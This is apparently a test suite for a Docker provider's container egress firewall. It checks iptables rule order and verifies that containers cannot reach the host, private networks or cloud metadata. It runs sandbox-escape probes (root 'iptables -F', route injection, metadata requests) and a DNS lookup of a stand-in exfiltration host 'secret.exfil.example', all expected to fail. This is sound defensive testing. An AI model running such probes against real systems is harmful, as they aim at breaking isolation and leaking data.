/** Where a container may go, tried from inside it as its agent and as its root. */
import { afterEach, describe, expect, it } from 'bun:test'
import { mkdir } from 'node:fs/promises'
import { dirname } from 'node:path'
import type { Owner } from '@berth/core'
import { openBench, WAIT } from '../testing/stand-in.ts'
import { createEngine } from './engine.ts'
import { createDockerProvider } from './index.ts'
import { machineName } from './names.ts'
import { chainOf, nameServers, type WallsPlan } from './walls.ts'

const signal = new AbortController().signal
const engine = createEngine(undefined)
const { ok, detail } = await createDockerProvider({ installation: 'probe', home: '/nonexistent', log: () => {} }).check(signal)
if (!ok) console.log(`no engine: ${detail}`)
const cleanups: (() => unknown)[] = []
afterEach(async () => { for (const cleanup of cleanups.splice(0).toReversed()) await cleanup() })

const PLAN: WallsPlan = { mode: 'open', hostPorts: [7400], allow: ['10.1.2.3:443', '10.9.0.0/16'], gateway: '172.20.0.1', subnet: '172.20.0.2/16', nameServers: ['10.0.0.53'], hostAddresses: ['198.51.100.7'], beside: [] }
/** The first rule that fits decides. */
const at = (chain: readonly string[], rule: string): number => chain.indexOf(rule)

it('names what is refused before what is let go, and closes all but the loopback', () => {
  const chain = chainOf(PLAN, 'DROP')
  expect(at(chain, '-d 10.0.0.53 -p udp --dport 53 -j ACCEPT')).toBeLessThan(at(chain, '-d 10.0.0.0/8 -j DROP'))
  expect(at(chain, '-d 172.20.0.1 -p tcp --dport 7400 -j ACCEPT')).toBeLessThan(at(chain, '-d 172.20.0.1 -j DROP'))
  expect(at(chain, '-d 172.20.0.1 -j DROP')).toBeLessThan(at(chain, '-d 172.20.0.2/16 -j ACCEPT'))
  expect(at(chain, '-d 172.20.0.2/16 -j ACCEPT')).toBeLessThan(at(chain, '-d 172.16.0.0/12 -j DROP'))
  for (const rule of ['-d 169.254.0.0/16 -j DROP', '-d 198.51.100.7 -j DROP', '-d 10.1.2.3 -p tcp --dport 443 -j ACCEPT', '-d 10.9.0.0/16 -j ACCEPT']) expect(chain).toContain(rule)
  expect(chainOf({ ...PLAN, mode: 'closed' }, 'DROP')).toEqual(['-d 127.0.0.11 -j DROP', '-o lo -j ACCEPT', '-j DROP'])
  // With services beside it: their names and they, no other name and not the host.
  const beside = chainOf({ ...PLAN, mode: 'closed', beside: ['db'] }, 'DROP')
  const asked = beside.slice(0, 2)
  expect(asked[0]).toBe('-d 127.0.0.11 -p udp -m length --length 48:59 -m u32 --u32 0>>24=0x45&&32=0x10000&&36=0x0:0x1&&40=0x2646200&&44=0x10001 -j ACCEPT')
  expect(asked[1]).toContain('40=0x2646200&&44=0x1c0001')
  expect(beside.slice(2)).toEqual(['-d 127.0.0.11 -j DROP', '-o lo -j ACCEPT', '-d 172.20.0.1 -j DROP', '-d 198.51.100.7 -j DROP', '-d 172.20.0.2/16 -j ACCEPT', '-j DROP'])
  expect(nameServers('# x\nnameserver 10.0.0.53\nnameserver 127.0.0.53\nnameserver fe80::1\nnameserver 1.1.1.1 \n')).toEqual(['10.0.0.53', '1.1.1.1'])
})

async function open(hostPorts: readonly number[] = []) {
  const bench = await openBench(WAIT)
  cleanups.push(bench.close)
  const provider = createDockerProvider({ installation: bench.installation, home: bench.home, log: () => {}, baseImage: 'host-usr', hostPorts })
  await mkdir(dirname(bench.spec.boot.link.unixSocket ?? ''), { recursive: true, mode: 0o700 })
  return {
    provider,
    async machine(egress: 'open' | 'closed'): Promise<Owner> {
      const owner = bench.owner()
      cleanups.push(() => provider.destroy(owner, { signal }))
      expect(await provider.ensure(owner, { ...bench.spec, egress }, { signal })).toMatchObject({ done: true })
      return owner
    },
  }
}
async function run(owner: Owner, argv: readonly string[], user = 'dev'): Promise<{ exitCode: number; said: string }> {
  const child = Bun.spawn(['docker', 'exec', '--user', user, machineName(owner), ...argv], { stdin: 'ignore', stdout: 'pipe', stderr: 'pipe' })
  const [out, err, exitCode] = await Promise.all([new Response(child.stdout).text(), new Response(child.stderr).text(), child.exited])
  return { exitCode, said: `${out}${err}`.trim() }
}
const GET = 'import socket,sys; s=socket.create_connection((sys.argv[1],int(sys.argv[2])),3); s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); print(s.recv(4096).decode()[-6:])'
const reaches = async (owner: Owner, host: string, port: number, user?: string): Promise<boolean> => (await run(owner, ['python3', '-c', GET, host, String(port)], user)).exitCode === 0
const gatewayOf = async (owner: Owner): Promise<string> => Object.values((await engine.json<{ NetworkSettings: { Networks: Record<string, { Gateway: string }> } }>(`/containers/${machineName(owner)}/json`, { what: 'looking' }, signal)).NetworkSettings.Networks)[0]?.Gateway ?? ''
/** A host on a public address, in a network namespace beside this one: it serves from another machine's point of view. */
const PUBLIC = '203.0.114.2'
async function aPublicHost(): Promise<void> {
  const name = `brt${process.pid % 100_000}`
  const ip = (...words: string[]): void => {
    if (Bun.spawnSync(['ip', ...words], { stderr: 'inherit' }).exitCode !== 0) throw new Error(`ip ${words.join(' ')} failed: are you root?`)
  }
  ip('netns', 'add', name)
  cleanups.push(() => Bun.spawnSync(['ip', 'netns', 'del', name]))
  ip('link', 'add', name, 'type', 'veth', 'peer', 'name', 'eth0', 'netns', name)
  ip('addr', 'add', '203.0.114.1/30', 'dev', name)
  ip('link', 'set', name, 'up')
  ip('-n', name, 'addr', 'add', `${PUBLIC}/30`, 'dev', 'eth0')
  ip('-n', name, 'link', 'set', 'eth0', 'up')
  ip('-n', name, 'route', 'add', 'default', 'via', '203.0.114.1')
  const server = Bun.spawn(['ip', 'netns', 'exec', name, 'python3', '-c', 'import http.server; s=http.server.ThreadingHTTPServer(("0.0.0.0",8080),http.server.SimpleHTTPRequestHandler); print("up",flush=True); s.serve_forever()'], { stdin: 'ignore', stdout: 'pipe', stderr: 'ignore' })
  cleanups.push(async () => { server.kill(); await server.exited })
  await server.stdout.getReader().read()
}

describe.skipIf(!ok && process.env['CI'] === undefined)('egress of a container', () => {
  it('keeps an open machine from the host, its cloud and private networks, and opens what was opened', async () => {
    const server = Bun.serve({ hostname: '0.0.0.0', port: 0, fetch: () => new Response('secret') })
    const model = Bun.serve({ hostname: '0.0.0.0', port: 0, fetch: () => new Response('opened') })
    cleanups.push(() => server.stop(true), () => model.stop(true))
    const { machine } = await open([model.port ?? 0])
    const owner = await machine('open')
    const gateway = await gatewayOf(owner)
    // Control: the port that a person opened answers at the same address.
    for (const user of ['dev', 'root']) {
      expect([user, await reaches(owner, 'host.docker.internal', model.port ?? 0, user)]).toEqual([user, true])
      for (const host of ['host.docker.internal', gateway, '169.254.169.254', '10.0.0.1', '192.168.1.1', '172.31.255.1', '100.100.100.200']) expect([user, host, await reaches(owner, host, server.port ?? 0, user)]).toEqual([user, host, false])
    }
    // Refused at once, not after a time.
    expect((await run(owner, ['python3', '-c', GET, '169.254.169.254', '80'])).said).toContain('refused')
    // Its root has no right to take them down.
    expect((await run(owner, ['/usr/sbin/xtables-nft-multi', 'iptables', '-F'], 'root')).exitCode).not.toBe(0)
    expect((await run(owner, ['ip', 'route', 'add', '10.0.0.0/8', 'via', gateway], 'root')).exitCode).not.toBe(0)
  }, 120_000)

  it('closes a machine and opens it again while it runs, also for what was connected', async () => {
    const { provider, machine } = await open()
    const owner = await machine('closed')
    const gateway = await gatewayOf(owner)
    const talk = 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.sendto(b"x",("1.1.1.1",53)); s.recv(1)'
    for (const user of ['dev', 'root']) {
      for (const host of [gateway, '1.1.1.1', '169.254.169.254', 'host.docker.internal']) expect([user, host, await reaches(owner, host, 80, user)]).toEqual([user, host, false])
      // Nor by datagrams, nor through the engine's own name server.
      expect((await run(owner, ['python3', '-c', talk], user)).exitCode).not.toBe(0)
      expect((await run(owner, ['python3', '-c', 'import socket; socket.getaddrinfo("secret.exfil.example",80)'], user)).exitCode).not.toBe(0)
    }
    expect((await run(owner, ['python3', '-c', 'import socket; a=socket.socket(); a.bind(("127.0.0.1",0)); a.listen(); socket.create_connection(a.getsockname(),2)'])).exitCode).toBe(0)
    await aPublicHost()
    expect(await reaches(owner, PUBLIC, 8080)).toBe(false)
    await provider.setEgress?.(owner, 'open', { signal })
    expect(await reaches(owner, PUBLIC, 8080)).toBe(true)
    // One that is connected when the walls close.
    const child = Bun.spawn(['docker', 'exec', '-i', '--user', 'dev', machineName(owner), 'python3', '-c', `import socket,sys\ns=socket.create_connection(("${PUBLIC}",8080),3); print("in",flush=True); sys.stdin.readline(); s.settimeout(3); s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint(len(s.recv(10)),flush=True)`], { stdin: 'pipe', stdout: 'pipe', stderr: 'ignore' })
    await child.stdout.getReader().read()
    await provider.setEgress?.(owner, 'closed', { signal })
    void child.stdin.write('go\n')
    await child.stdin.end()
    expect(await child.exited).not.toBe(0)
    expect((await run(owner, ['python3', '-c', GET, PUBLIC, '8080'])).said).toContain('refused')
  }, 120_000)

  it('refuses to close a machine whose own engine could open it', async () => {
    const bench = await openBench(WAIT)
    cleanups.push(bench.close)
    const provider = createDockerProvider({ installation: bench.installation, home: bench.home, log: () => {}, baseImage: 'host-usr' })
    await expect(provider.ensure(bench.owner(), { ...bench.spec, egress: 'closed', docker: true }, { signal })).rejects.toMatchObject({ category: 'unsupported' })
  })
})
